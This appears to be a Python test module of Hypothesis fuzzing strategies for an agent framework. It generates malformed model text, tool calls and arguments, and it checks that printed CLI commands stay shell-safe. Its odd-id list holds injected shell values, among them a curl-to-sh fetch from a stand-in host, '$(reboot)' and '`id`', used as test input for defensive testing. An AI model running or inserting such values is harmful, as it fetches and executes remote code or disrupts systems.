"""Hypothesis strategies for what a model may send: text of any Unicode (lone surrogates, NUL,
bidi, long runs of one character, fences, JSON-looking prose), tool calls with any name, any id
(shell syntax, slashes, 5,000 bytes, ids repeated across subagents) and any arguments (deep,
huge, NaN, surrogates, not JSON at all), usage left out or odd, and streams cut anywhere. Shared
by the generated tests (pure rules, and real conversations through the scripted model)."""

from __future__ import annotations

import json
import re
import shlex

from hypothesis import strategies as st

from durable_react_agent.testing import ScriptedReply, ScriptedToolCall

SHELL_ID = "x;curl -s evil.example/p|sh;#"
ODD_IDS = [SHELL_ID, "a/b", "z" * 5000, "dup", "call_0", "", "id with spaces", "\u202eevil",
           "$(reboot)", "`id`", "\ud800", "-rf"]
SAFE_TOOLS = ["get_weather", "list_notes"]
RISKY_TOOLS = ["create_note", "delete_note"]
ASKS = ["ask_confirm", "ask_choice", "ask_input"]
SPECIAL_TEXTS = [
    "```" + " " * 3000 + "x", "```json\n" + "\n" * 2000 + "x", "```json\n{}\n```",
    '{"name": "create_note", "arguments": {"title": "t", "body": "b"}}',
    '<tool_call>{"name": "create_note", "arguments": {"title": "t"}}</tool_call>',
    "\x00", "a\x00b", "\u202eevil\u202c", "\ud800", "x\udfffy", "\ufeff", "  ", "",
    "I will now call create_note to save it.", "[" * 500, "{" * 500 + "}" * 500,
]

# Any code point, surrogates included (Hypothesis leaves them out by default).
any_text = st.text(st.characters(exclude_categories=()), max_size=60)
texts = st.one_of(
    any_text, st.sampled_from(SPECIAL_TEXTS),
    st.builds(lambda c, n: c * n, st.characters(exclude_categories=()),
              st.integers(1_000, 20_000)))
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | any_text,
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(any_text, kids, max_size=3),
    max_leaves=12)
raw_arguments = st.one_of(
    st.sampled_from(['{"location": "\\ud800"}', "[" * 3000 + "]" * 3000,
                     '{"location": 1' + "0" * 5000 + "}", "NaN", "{", "", "null",
                     '{"title": NaN, "body": Infinity}', '"just a string"']),
    json_values.map(json.dumps))
valid_arguments = {
    "get_weather": st.fixed_dictionaries({"location": texts}),
    "list_notes": st.fixed_dictionaries({"query": any_text}),
    "create_note": st.fixed_dictionaries({"title": texts, "body": any_text}),
    "delete_note": st.fixed_dictionaries({"note_id": st.integers()}),
    "ask_confirm": st.fixed_dictionaries({"message": texts}),
    "ask_input": st.fixed_dictionaries({"message": texts}),
    "ask_choice": st.fixed_dictionaries({"message": any_text,
                                         "options": st.lists(any_text, max_size=4)}),
}
call_ids = st.one_of(st.none(), st.sampled_from(ODD_IDS), any_text)


@st.composite
def tool_calls(draw) -> ScriptedToolCall:
    """A call of a known tool (arguments that fit, or not) or of a made-up one."""
    name = draw(st.one_of(st.sampled_from([*SAFE_TOOLS, *RISKY_TOOLS, *ASKS]), any_text))
    fitting = valid_arguments.get(name)
    arguments = draw(raw_arguments if fitting is None else st.one_of(fitting, raw_arguments))
    return ScriptedToolCall(name=name, arguments=arguments, id=draw(call_ids))


usage_fields = ["prompt_tokens", "completion_tokens", "total_tokens", "prompt_tokens_details"]
replies = st.builds(
    ScriptedReply,
    content=st.one_of(st.none(), texts),
    tool_calls=st.lists(tool_calls(), max_size=3),
    usage_patch=st.dictionaries(st.sampled_from(usage_fields), st.one_of(
        st.none(), st.integers(-5, 10**6), st.just("12"), st.just(1.5)), max_size=2),
    usage_missing=st.lists(st.sampled_from(usage_fields), max_size=2, unique=True),
    cut_at=st.lists(st.integers(0, 1500), max_size=1),
)


# A command of ours as printed: `agent` and one of its subcommands.
PRINTED = re.compile(r"(?<![\w./-])agent (?:start|say|confirm|reject|answer|watch|history|status|"
                     r"export|fork|eval|list|end|cancel|memories|forget)\b")


def one_command(line: str) -> bool:
    """Whether a printed `agent ...` line runs as that one command in a POSIX shell:
    no word of it is shell syntax left unquoted (`;`, `|`, `&`, `$(`, a backtick)."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    try:
        words = list(lexer)
    except ValueError:  # an unclosed quote
        return False
    return words[:1] == ["agent"] and all(
        shlex.quote(word) in line for word in words)


def printed_commands(cli: str, markdown: str) -> list[str]:
    """The `agent ...` commands shown: the CLI's (its lines that begin with one of
    its labels; what a model wrote never begins a line, `client.render.shown`), and the code
    spans of the Temporal UI's Markdown details that hold one."""
    labels = ("  approve: ", "  edit:    ", "  reject:  ", "  or all at once: ", "  answer: ",
              "next: ")
    found = [piece for line in cli.split("\n") if line.startswith(labels)
             for piece in line.split(": ", 1)[1].split("   or   ")]
    return found + [span for span in code_spans(markdown) if PRINTED.match(span)]


def code_spans(markdown: str) -> list[str]:
    """The contents of a Markdown text's code spans: a run of backticks opens one, the next
    run of as many closes it (CommonMark)."""
    spans, i = [], 0
    while (start := markdown.find("`", i)) >= 0:
        end = start
        while end < len(markdown) and markdown[end] == "`":
            end += 1
        fence, close = markdown[start:end], end
        while (close := markdown.find(fence, close)) >= 0 and markdown[close + len(fence):][:1] == "`":
            close += len(fence) + 1
        if close < 0:
            break
        inside = markdown[end:close]
        if inside.startswith(" ") and inside.endswith(" ") and inside.strip(" "):
            inside = inside[1:-1]  # the padding CommonMark takes off
        spans.append(inside)
        i = close + len(fence)
    return spans
